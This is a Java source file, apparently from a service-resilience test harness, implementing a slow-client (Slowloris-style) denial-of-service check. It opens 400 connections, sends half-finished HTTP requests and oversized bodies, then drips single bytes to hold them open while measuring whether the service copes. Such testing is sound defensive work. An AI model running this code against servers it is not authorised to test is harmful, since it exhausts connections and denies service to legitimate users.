package dev.tailback.verification.attack;

import dev.tailback.verification.attack.Parts.Part;
import dev.tailback.verification.fleet.Await;
import java.io.IOException;
import java.net.InetAddress;
import java.net.InetSocketAddress;
import java.net.Socket;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.util.ArrayList;
import java.util.List;
import java.util.Optional;

/**
 * Many connections that each hold something half: headers, a form, a body; and send a byte now and then. Others go on
 * with their work.
 */
final class SlowClients implements Part {
    private static final int CONNECTIONS = 400;
    private static final int ROUNDS = 12;
    private static final long BETWEEN_ROUNDS_MS = 1_000;
    /** Far beyond what the programs are told to wait, for a busy machine. */
    private static final Duration LONGEST_HOLD = Duration.ofSeconds(90);

    private static final String FORM =
            "POST /login HTTP/1.1\r\nHost: a\r\nContent-Type: application/x-www-form-urlencoded\r\n";
    private static final List<String> BEGINNINGS = List.of(
            "",
            "POST /log",
            "POST /login HTTP/1.1\r\nHost: a\r\nX-Slow: ",
            FORM + "Content-Length: 60000\r\n\r\n" + "name=" + "n".repeat(50_000),
            "POST /api/ads HTTP/1.1\r\nHost: a\r\nContent-Type: application/json\r\nContent-Length: 900000\r\n\r\n"
                    + "{\"title\":\"" + "t".repeat(100_000),
            FORM + "Transfer-Encoding: chunked\r\n\r\n" + "400\r\n" + "n".repeat(1_000),
            "GET /login HTTP/1.1\r\nHost: a\r\n\r\n".repeat(20));

    private final Scene scene;
    private final List<Socket> sockets = new ArrayList<>();
    private int ended;

    SlowClients(Scene scene) {
        this.scene = scene;
    }

    @Override
    public void strike() {
        Vitals vitals = new Vitals(scene.target().serviceApp(), scene.findings());
        try (Neighbours neighbours = Neighbours.atWork(scene.staff())) {
            connectAll();
            for (int round = 0; round < ROUNDS; round++) {
                sockets.forEach(this::drip);
                vitals.look();
                Await.millis(BETWEEN_ROUNDS_MS);
            }
            if (!Await.until(this::isNoneLeft, LONGEST_HOLD)) {
                scene.findings()
                        .add(
                                "slow: still there",
                                CONNECTIONS - ended + " of " + CONNECTIONS + " connections are held on.");
            }
            neighbours.judge("slow", scene.findings());
            scene.say("slow: " + neighbours.words());
        } finally {
            sockets.forEach(SlowClients::close);
        }
        scene.say("slow: %d connections, %d of them ended by the service app".formatted(CONNECTIONS, ended));
        vitals.judge(false);
        scene.say("slow: " + vitals.words());
    }

    private void connectAll() {
        Optional<InetAddress> from = OtherAddress.of(88);
        for (int number = 0; number < CONNECTIONS; number++) {
            try {
                Socket socket = new Socket();
                if (from.isPresent()) {
                    socket.bind(new InetSocketAddress(from.get(), 0));
                }
                socket.connect(scene.target().address(), 2_000);
                sockets.add(socket);
                String beginning = BEGINNINGS.get(number % BEGINNINGS.size());
                socket.getOutputStream().write(beginning.getBytes(StandardCharsets.US_ASCII));
            } catch (IOException turnedAway) {
                ended++;
            }
        }
    }

    private boolean isNoneLeft() {
        sockets.forEach(this::drip);
        return ended >= CONNECTIONS;
    }

    private void drip(Socket socket) {
        if (socket.isClosed()) {
            return;
        }
        try {
            socket.getOutputStream().write('x');
        } catch (IOException closed) {
            ended++;
            close(socket);
        }
    }

    private static void close(Socket socket) {
        try {
            socket.close();
        } catch (IOException goneAnyway) {
            return;
        }
    }
}
